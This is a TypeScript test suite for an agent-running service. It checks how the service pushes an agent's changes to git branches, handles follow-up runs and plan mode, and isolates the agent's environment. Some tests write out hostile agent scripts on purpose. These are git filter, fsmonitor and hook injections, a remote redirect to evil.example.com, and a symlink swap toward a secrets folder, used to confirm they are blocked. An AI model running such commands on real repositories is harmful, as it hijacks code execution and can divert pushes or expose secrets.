import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { block, prompt } from "./testing/prompt-text";
import { createRunHarness, type RunHarness, textOf } from "./testing/run-harness";

let harness: RunHarness;
beforeAll(async () => {
  harness = await createRunHarness();
});
afterAll(() => harness.dispose());

const branch = (name: string, current = false) => ({ name, current });

describe("pushing a run's changes", () => {
  it("A-CREATE-63: pushes one commit with agent and run ids to the new branch", async () => {
    const text = `Add a health route\n\n${block("file src/health.ts", "export const ok = true;")}${block("sh", "cat src/health.ts")}`;
    const { outcome } = await harness.run({ runId: "run-1", prompt: prompt(text), branch: branch("svc/health") });
    expect(outcome).toMatchObject({ status: "FINISHED", error: undefined });
    expect(outcome.branches).toEqual([{ repoUrl: "git.example.com/acme/payments", branch: "svc/health" }]);
    const log = await harness.remoteGit("log", "-1", "--format=%an <%ae>%n%B", "svc/health");
    expect(log).toBe("Slipway <slipway@example.com>\nAdd a health route\n\nAgent: bc-1\nRun: run-1");
    expect(await harness.remoteGit("show", "svc/health:src/health.ts")).toBe("export const ok = true;");
  });

  it("A-CREATE-64, A-CREATE-66: starts its new branch at the starting ref, and doesn't change that", async () => {
    const identity = ["-c", "user.name=Ada", "-c", "user.email=ada@example.com"];
    const tree = await harness.remoteGit("rev-parse", "release^{tree}");
    const before = await harness.remoteGit(...identity, "commit-tree", tree, "-p", "release", "-m", "Release");
    await harness.remoteGit("update-ref", "refs/heads/release", before);
    expect(await harness.remoteGit("rev-parse", "main")).not.toBe(before);
    await harness.run({
      prompt: prompt(block("sh", "echo hi > hi.txt")),
      repositories: [harness.repository("release")],
      branch: branch("svc/from-release"),
    });
    expect(await harness.remoteGit("rev-parse", "release")).toBe(before);
    expect(await harness.remoteGit("rev-parse", "svc/from-release^")).toBe(before);
  });

  it.each(["v1", "release", "refs/heads/release"])("A-CREATE-57: starts from %s", async (ref) => {
    const commit = await harness.remoteGit("rev-parse", `${ref}^{commit}`);
    const name = `svc/from-${ref.length}-${ref.at(0)}`;
    const { outcome } = await harness.run({
      prompt: prompt(block("sh", "date > now.txt")),
      repositories: [harness.repository(ref)],
      branch: branch(name),
    });
    expect(outcome.status).toBe("FINISHED");
    expect(await harness.remoteGit("rev-parse", `${name}^`)).toBe(commit);
  });

  it("A-CREATE-58: starts from a commit", { tags: ["long"] }, async () => {
    const commit = await harness.remoteGit("rev-parse", "release");
    expect(commit).not.toBe(await harness.remoteGit("rev-parse", "main"));
    const { outcome } = await harness.run({
      prompt: prompt(block("sh", "date > now.txt")),
      repositories: [harness.repository(commit)],
      branch: branch("svc/from-commit"),
    });
    expect(outcome.status).toBe("FINISHED");
    expect(await harness.remoteGit("rev-parse", "svc/from-commit^")).toBe(commit);
  });

  it("A-CREATE-67: pushes to the starting ref if requested", { tags: ["long"] }, async () => {
    const { outcome } = await harness.run({
      prompt: prompt(block("sh", "echo direct > direct.txt")),
      repositories: [harness.repository("release")],
      branch: branch("svc/unused", true),
    });
    expect(outcome.branches).toEqual([{ repoUrl: "git.example.com/acme/payments", branch: "release" }]);
    expect(await harness.remoteGit("show", "release:direct.txt")).toBe("direct");
    expect(await harness.remoteGit("branch", "--list", "svc/unused")).toBe("");
  });

  it("pushes nothing without changes", async () => {
    const { outcome } = await harness.run({ prompt: prompt(block("sh", "ls")), branch: branch("svc/none") });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
    expect(await harness.remoteGit("branch", "--list", "svc/none")).toBe("");
  });

  it("pushes the agent's commits and its uncommitted changes", async () => {
    const script = "echo 1 > one.txt && git add one.txt && git commit -qm 'Add one' && echo 2 > two.txt";
    await harness.run({ prompt: prompt(`Two files\n${block("sh", script)}`), branch: branch("svc/own-commits") });
    expect(await harness.remoteGit("log", "--format=%s", "-2", "svc/own-commits")).toBe("Two files\nAdd one");
  });

  it("doesn't push artifacts, which stay in the workspace", async () => {
    const workspaceDir = join(harness.folder, "with-artifacts");
    const text =
      block("sh", 'echo a > artifacts/a.txt; echo b > "$SVC_ARTIFACTS/b.txt"') + block("file artifacts/c.txt", "c");
    const { outcome } = await harness.run({ prompt: prompt(text), workspaceDir });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
    expect(await textOf(join(workspaceDir, "artifacts", "a.txt"))).toBe("a\n");
    expect(await textOf(join(workspaceDir, "artifacts", "b.txt"))).toBe("b\n");
    expect(await textOf(join(workspaceDir, "artifacts", "c.txt"))).toBe("c\n");
  });

  it("pushes to all repositories of the run with changes", async () => {
    const one = { ...harness.repository(), directory: "one", url: "https://git.example.com/acme/one" };
    const two = { ...harness.repository(), directory: "two", url: "https://git.example.com/acme/two" };
    const { outcome } = await harness.run({
      prompt: prompt(block("sh", "echo hi > two/two.txt")),
      repositories: [one, two],
      branch: branch("svc/several"),
    });
    expect(outcome.branches).toEqual([{ repoUrl: "git.example.com/acme/two", branch: "svc/several" }]);
  });

  it("pushes nothing without a repository", async () => {
    const workspaceDir = join(harness.folder, "no-repository");
    const { outcome } = await harness.run({
      prompt: prompt(block("file notes/a.md", "a")),
      repositories: [],
      workspaceDir,
    });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
    expect(await textOf(join(workspaceDir, "repos", "notes", "a.md"))).toBe("a\n");
  });

  it("ignores the git configuration in the agent's checkout", async () => {
    const marker = join(harness.folder, "executed");
    const script = [
      `git config filter.x.clean "touch ${marker}; cat"`,
      `git config core.fsmonitor "touch ${marker}; false"`,
      `git config uploadpack.packObjectsHook "touch ${marker};"`,
      `git config url.https://evil.example.com/.insteadOf ${harness.remote}`,
      "echo '* filter=x' > .gitattributes; echo hi > hi.txt",
      `mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch ${marker}\\n' | tee .git/hooks/reference-transaction > .git/hooks/pre-push`,
      "chmod +x .git/hooks/*",
    ].join("\n");
    const { outcome } = await harness.run({ prompt: prompt(block("sh", script)), branch: branch("svc/hostile") });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/hostile" }] });
    expect(await textOf(marker)).toBeUndefined();
  });

  it("rejects a checkout that was replaced with a link", async () => {
    const secret = join(harness.folder, "secret");
    await mkdir(secret, { recursive: true });
    await writeFile(join(secret, "keys.json"), "secret");
    const text = block("sh", `cp -r .git ${secret}/.git; cd ..; rm -rf payments; ln -s ${secret} payments`);
    const { outcome } = await harness.run({ prompt: prompt(text), branch: branch("svc/link") });
    expect(outcome).toMatchObject({ status: "ERROR", error: { code: "workspace_unusable" } });
    expect(await harness.remoteGit("branch", "--list", "svc/link")).toBe("");
  });

  it("reports why a push was rejected and keeps the commit for the next run", { tags: ["long"] }, async () => {
    const hook = join(harness.remote, "hooks", "pre-receive");
    await writeFile(hook, "#!/bin/sh\necho 'branch is frozen' >&2\nexit 1\n", { mode: 0o755 });
    const workspaceDir = join(harness.folder, "rejected-push");
    const over = { workspaceDir, branch: branch("svc/rejected") };
    const { outcome: rejected } = await harness.run({ ...over, prompt: prompt(block("sh", "echo x > x.txt")) });
    expect(rejected).toMatchObject({ status: "ERROR", branches: [], error: { code: "push_rejected" } });
    expect(rejected.error?.message).toContain("branch is frozen");
    await writeFile(hook, "#!/bin/sh\nexit 0\n");
    const { outcome } = await harness.run({ ...over, prompt: prompt(block("sh", "ls")) });
    expect(outcome.branches).toHaveLength(1);
    expect(await harness.remoteGit("show", "svc/rejected:x.txt")).toBe("x");
  });
});

describe("a follow-up run", () => {
  it("creates its branch again after it was deleted", { tags: ["long"] }, async () => {
    const over = { workspaceDir: join(harness.folder, "deleted-branch"), branch: branch("svc/deleted") };
    await harness.run({ ...over, prompt: prompt(block("sh", "echo 1 > first.txt")) });
    await harness.remoteGit("update-ref", "-d", "refs/heads/svc/deleted");
    const { outcome } = await harness.run({ ...over, prompt: prompt(block("sh", "echo 2 > second.txt")) });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/deleted" }] });
    expect(await harness.remoteGit("show", "svc/deleted:second.txt")).toBe("2");
  });

  it("pushes commits that are based on what others pushed to its branch", { tags: ["long"] }, async () => {
    const over = { workspaceDir: join(harness.folder, "shared-branch"), branch: branch("svc/shared") };
    await harness.run({ ...over, prompt: prompt(block("sh", "echo 1 > first.txt")) });
    const others = join(harness.folder, "others");
    const script = [
      `git clone --quiet --branch svc/shared ${harness.remote} ${others}`,
      `cd ${others}`,
      "echo 2 > theirs.txt; git add .; git -c user.name=Bo -c user.email=bo@example.com commit --quiet -m Theirs",
      "git push --quiet origin HEAD",
      "cd -",
      `git fetch --quiet ${harness.remote} svc/shared; git reset --quiet --hard FETCH_HEAD; echo 3 > mine.txt`,
    ].join("\n");
    const { outcome } = await harness.run({ ...over, prompt: prompt(`Mine\n${block("sh", script)}`) });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/shared" }] });
    expect(await harness.remoteGit("log", "--format=%s", "-2", "svc/shared")).toBe("Mine\nTheirs");
  });

  it("overwrites nothing that others pushed to its branch", { tags: ["long"] }, async () => {
    const over = { workspaceDir: join(harness.folder, "overwritten-branch"), branch: branch("svc/overwritten") };
    await harness.run({ ...over, prompt: prompt(block("sh", "echo 1 > first.txt")) });
    const theirs = "git commit-tree -p svc/overwritten -m Theirs svc/overwritten^{tree}";
    const script = `cd ${harness.remote}; git update-ref refs/heads/svc/overwritten $(GIT_AUTHOR_NAME=Bo GIT_AUTHOR_EMAIL=b@example.com GIT_COMMITTER_NAME=Bo GIT_COMMITTER_EMAIL=b@example.com ${theirs}); cd -; echo 3 > mine.txt`;
    const { outcome } = await harness.run({ ...over, prompt: prompt(block("sh", script)) });
    expect(outcome).toMatchObject({ status: "ERROR", error: { code: "push_rejected" } });
    expect(await harness.remoteGit("log", "--format=%s", "-1", "svc/overwritten")).toBe("Theirs");
  });

  it("A-RUN-31: continues in the same workspace and branch with the existing files", async () => {
    const over = { workspaceDir: join(harness.folder, "follow-up"), branch: branch("svc/follow-up") };
    await harness.run({ ...over, prompt: prompt(`First\n${block("sh", "echo 1 > count.txt")}`) });
    const status = `${block("sh", "git status --porcelain > ../../artifacts/status.txt; echo 2 >> count.txt")}`;
    const second = await harness.run({
      ...over,
      prompt: prompt(`Second\n${status}`),
      conversation: [{ prompt: `First\n${block("sh", "echo again >> count.txt")}`, reply: "Done" }],
    });
    expect(second.outcome.branches).toHaveLength(1);
    expect(await readFile(join(over.workspaceDir, "artifacts", "status.txt"), "utf8")).toBe("");
    expect(await harness.remoteGit("show", "svc/follow-up:count.txt")).toBe("1\n2");
    expect(await harness.remoteGit("log", "--format=%s", "-2", "svc/follow-up")).toBe("Second\nFirst");
  });

  it("includes commits users pushed to the branch in the meantime", { tags: ["long"] }, async () => {
    const over = { workspaceDir: join(harness.folder, "reviewed"), branch: branch("svc/reviewed") };
    await harness.run({ ...over, prompt: prompt(`First\n${block("sh", "echo 1 > count.txt")}`) });
    const other = { workspaceDir: join(harness.folder, "reviewer"), branch: branch("svc/reviewed", true) };
    const repositories = [harness.repository("svc/reviewed")];
    await harness.run({ ...other, repositories, prompt: prompt(`Review\n${block("sh", "echo 2 >> count.txt")}`) });
    const { outcome } = await harness.run({ ...over, prompt: prompt(`Second\n${block("sh", "echo 3 >> count.txt")}`) });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/reviewed" }] });
    expect(await harness.remoteGit("log", "--format=%s", "main..svc/reviewed")).toBe("Second\nReview\nFirst");
    expect(await harness.remoteGit("show", "svc/reviewed:count.txt")).toBe("1\n2\n3");
  });

  it("can rewrite the agent's branch", { tags: ["long"] }, async () => {
    const over = { workspaceDir: join(harness.folder, "amend"), branch: branch("svc/amend") };
    await harness.run({ ...over, prompt: prompt(`First\n${block("sh", "echo 1 > count.txt")}`) });
    const amend = "echo 2 > count.txt; git commit -qam x --amend";
    const { outcome } = await harness.run({ ...over, prompt: prompt(block("sh", amend)) });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/amend" }] });
    expect(await harness.remoteGit("log", "--format=%s", "main..svc/amend")).toBe("x");
  });
});

describe("plan mode", () => {
  it("A-CREATE-75: explores and proposes without running, writing or pushing anything", async () => {
    const workspaceDir = join(harness.folder, "plan");
    const text = `Do it\n${block("file new.txt", "new")}${block("sh", "touch ran.txt")}`;
    const { outcome, frames } = await harness.run({ prompt: prompt(text), mode: "plan", workspaceDir });
    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
    expect(outcome.result).toContain("1. Write `new.txt`\n2. Run `touch ran.txt`");
    expect(await textOf(join(workspaceDir, "repos", "payments", "ran.txt"))).toBeUndefined();
    const calls = frames.filter(({ event }) => event === "tool_call").map(({ data }) => data);
    expect(calls).toEqual([
      expect.objectContaining({ name: "create_plan", status: "running" }),
      expect.objectContaining({ name: "create_plan", status: "completed" }),
    ]);
  });
});

describe("the agent's environment", () => {
  it("A-VARS-10: gives the session's runtime options to commands, but not to the agent program", async () => {
    const workspaceDir = join(harness.folder, "node-options");
    const variables = { NODE_OPTIONS: "--require './mis}sing $HOME.cjs'", BUN_OPTIONS: "--preload=./missing.ts" };
    const text = block("sh", 'printf "%s|%s" "$NODE_OPTIONS" "$BUN_OPTIONS" > artifacts/options.txt');
    const { outcome } = await harness.run({ workspaceDir, prompt: prompt(text), variables });
    expect(outcome.status).toBe("FINISHED");
    const options = await readFile(join(workspaceDir, "artifacts", "options.txt"), "utf8");
    expect(options).toBe(`${variables.NODE_OPTIONS}|${variables.BUN_OPTIONS}`);
  });

  it("A-VARS-10: contains the session variables and the run's, and none of the service's", async () => {
    vi.stubEnv("SLIPWAY_TEST_SECRET", "leak");
    const workspaceDir = join(harness.folder, "environment");
    const { outcome } = await harness.run({
      runId: "run-env",
      workspaceDir,
      prompt: prompt(block("sh", "env > artifacts/env.txt")),
      variables: { GREETING: "hello", SCRIPT_AGENT_DELAY_MS: "0" },
    });
    expect(outcome.status).toBe("FINISHED");
    const lines = (await readFile(join(workspaceDir, "artifacts", "env.txt"), "utf8")).split("\n");
    expect(lines).toEqual(
      expect.arrayContaining([
        "GREETING=hello",
        "SVC_AGENT=1",
        "SVC_CONVERSATION_ID=bc-1",
        "SVC_REQUEST_ID=run-env",
        "TERM=dumb",
        `HOME=${join(workspaceDir, "home")}`,
        "GIT_AUTHOR_NAME=Slipway",
      ]),
    );
    expect(lines.join("\n")).not.toContain("leak");
  });
});
